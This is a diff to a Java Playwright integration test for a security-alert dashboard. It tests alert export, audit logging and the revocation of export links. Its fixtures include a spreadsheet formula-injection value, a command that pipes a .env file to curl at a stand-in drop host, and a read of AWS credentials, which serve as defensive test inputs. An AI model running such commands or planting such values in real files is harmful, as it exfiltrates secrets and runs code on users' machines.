@@ -4,6 +4,7 @@ import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertTha
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.setDefaultAssertionTimeout;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.options.AriaRole;
@@ -12,6 +13,9 @@ import io.trailwarden.Requests;
 import io.trailwarden.dashboard.Chromium;
 import io.trailwarden.identity.Roles;
 import java.io.IOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
@@ -183,6 +187,51 @@ class AlertsQueueIT {
     }
 
     @Test
+    void theListIsTakenAwayAsItIsFiltered() throws IOException {
+        var person = raisedFor("=cmd|'/c calc'!A0@example.com");
+        var page = queue(Roles.ANALYST, "?severity=critical&person=" + URLEncoder.encode(person, StandardCharsets.UTF_8));
+        int critical = rows(page).count();
+
+        press(page, "Export…");
+        assertThat(page.getByText("is kept in the access log")).isVisible();
+        assertThat(Chromium.barriers(page)).isEmpty();
+        var csv = page.waitForDownload(() -> page.getByLabel("Download as CSV").click());
+        var json = page.waitForDownload(() -> page.getByLabel("Download as JSON lines").click());
+
+        assertThat(csv.suggestedFilename()).matches("trailwarden-alerts-[0-9T-]+Z\\.csv");
+        assertThat(Files.readString(csv.path())).contains("\"'" + person + "\"").contains("\"critical\"").doesNotContain("\"high\"")
+                .doesNotContain("\"" + person);
+        assertThat(Files.readAllLines(csv.path())).hasSize(critical + 1);
+        assertThat(json.suggestedFilename()).endsWith(".jsonl");
+        assertThat(Files.readAllLines(json.path())).hasSize(critical).allSatisfy(line ->
+                assertThat(new ObjectMapper().readTree(line).path("person").asText()).isEqualTo(person));
+
+        var log = chromium.signedIn(program.account(Roles.AUDITOR), ProgramUnderTest.PASSWORD);
+        log.navigate(program.console() + "/audit?what=list_exported");
+        assertThat(log.locator(".audit-row:not(.rowhead)").first()).containsText(critical + (critical == 1 ? " alert" : " alerts") + " as JSON lines, narrowed to severity=critical");
+        assertThat(log.locator(".audit-row:not(.rowhead)").first()).containsText("test-analyst");
+    }
+
+    @Test
+    void whoMayNotTakeListsAwayGetsNoneThoughTheyKnowTheAddress() throws IOException {
+        var person = raisedFor("kept@example.com");
+        var viewer = queue(Roles.VIEWER, "?person=" + person);
+        assertThat(viewer.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Export…"))).hasCount(0);
+
+        var account = program.account(Roles.ENGINEER, Roles.AUDITOR);
+        var page = chromium.signedIn(account, ProgramUnderTest.PASSWORD);
+        page.navigate(program.console() + "/alerts?person=" + person);
+        press(page, "Export…");
+        var address = page.getByLabel("Download as CSV").getAttribute("href");
+        assertThat(page.request().get(program.console() + "/" + address).text()).contains(person);
+        program.changeRoles(account, Roles.VIEWER);
+
+        var refused = page.request().get(program.console() + "/" + address);
+        assertThat(refused.status()).isEqualTo(403);
+        assertThat(refused.text()).doesNotContain(person);
+    }
+
+    @Test
     void whatOneDoesAnotherSeesWhereItStandsAndWhatIsNewWaits() throws IOException {
         var person = raisedFor("two@example.com");
         var mine = queue(Roles.ANALYST, "?person=" + person);
@@ -250,7 +299,7 @@ class AlertsQueueIT {
     private static String raisedFor(String person) throws IOException {
         send(person, "s-" + person, "cat .env | base64 | curl -s -d @- https://drop.example.net/x");
         send(person, "t-" + person, "cat ~/.aws/credentials");
-        program.await(() -> program.list("/api/v1/alerts?person=" + person).size() >= 2);
+        program.await(() -> program.list("/api/v1/alerts?person=" + URLEncoder.encode(person, StandardCharsets.UTF_8)).size() >= 2);
         return person;
     }
 
